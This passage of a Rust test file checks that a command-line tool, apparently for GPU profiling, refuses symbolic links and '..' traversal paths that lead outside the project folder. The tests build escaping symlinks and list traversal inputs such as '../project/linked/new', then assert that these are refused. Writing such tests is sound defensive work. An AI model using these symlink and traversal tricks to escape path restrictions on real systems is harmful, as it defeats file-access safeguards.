        refused(&other, "bench resume night", "started_elsewhere", &["--yes"]);
        for _ in 0..2 {
            refused(&other, "bench resume night --yes", "remote_of_project", &[&add]);
        }
    }
    assert!(server.was_left_alone());
}

#[test]
fn a_link_of_the_project_leads_no_events_elsewhere() {
    let laptop = Laptop::new();
    let elsewhere = laptop.path("elsewhere");
    symlink(&elsewhere, laptop.project("linked")).unwrap();
    refused(&laptop, "exec --events linked -- true", "folder_outside", &["symbolic link"]);
    assert!(!elsewhere.exists());
    assert_eq!(status(&laptop.run("exec --events own -- true")), 0);
    assert!(laptop.project("own").exists());
}

#[test]
fn a_typed_path_below_artifacts_or_to_a_run_is_read_through_no_link() {
    let laptop = Laptop::new();
    let outer = laptop.path("outer");
    fs::create_dir_all(outer.join("raw")).unwrap();
    fs::write(outer.join("k.cubin"), "secret").unwrap();
    fs::write(outer.join("raw/r.ncu-rep"), "secret").unwrap();
    let run = laptop.project("artifacts/runs/a");
    fs::create_dir_all(&run).unwrap();
    symlink(outer.join("k.cubin"), laptop.project("artifacts/x.cubin")).unwrap();
    symlink(outer.join("raw"), run.join("raw")).unwrap();
    symlink(&outer, laptop.project("artifacts/runs/latest")).unwrap();
    for line in [
        "disasm artifacts/x.cubin",
        "disasm artifacts/runs/latest",
        "disasm artifacts/runs/latest/k.cubin",
        "report artifacts/runs/a/raw/r.ncu-rep",
        "report artifacts/runs/a/raw",
    ] {
        refused(&laptop, line, "linked_input", &["symbolic link"]);
    }
    // The user's own link elsewhere is followed.
    symlink(outer.join("k.cubin"), laptop.project("x.cubin")).unwrap();
    let output = laptop.run("disasm x.cubin");
    let told = String::from_utf8_lossy(&output.stderr).into_owned();
    assert!(!told.contains("symbolic link"), "{told}");
}

#[test]
fn two_dots_in_a_typed_path_hide_no_link_of_the_project() {
    let laptop = Laptop::new();
    let elsewhere = laptop.path("elsewhere");
    fs::create_dir(&elsewhere).unwrap();
    fs::create_dir(laptop.project("sub")).unwrap();
    symlink(&elsewhere, laptop.project("linked")).unwrap();
    for path in ["sub/../linked/new", "missing/../linked/new", "../project/linked/new"] {
        for line in [
            format!("dashboard export {path}"),
            format!("skill install --for {path}"),
            format!("exec --events {path} -- true"),
        ] {
            refused(&laptop, &line, "folder_outside", &["symbolic link"]);
        }
    }
    // Nor does a link to the project, from outside.
    symlink(laptop.project(""), laptop.path("alias")).unwrap();
    let path = laptop.path("alias/linked/new");
    for line in ["dashboard export", "skill install --for"] {
        let line = format!("{line} {}", path.display());
        refused(&laptop, &line, "folder_outside", &["symbolic link"]);
    }
    let line = format!("exec --events {} -- true", path.display());
    refused(&laptop, &line, "folder_outside", &["symbolic link"]);
    assert_eq!(fs::read_dir(&elsewhere).unwrap().count(), 0);
    assert!(!laptop.project("missing").exists());
    let own = "skill install --for sub/../own/skills";
    assert_eq!(status(&laptop.run(own)), 0);
    assert!(laptop.project("own/skills/rgpu/SKILL.md").is_file());
}
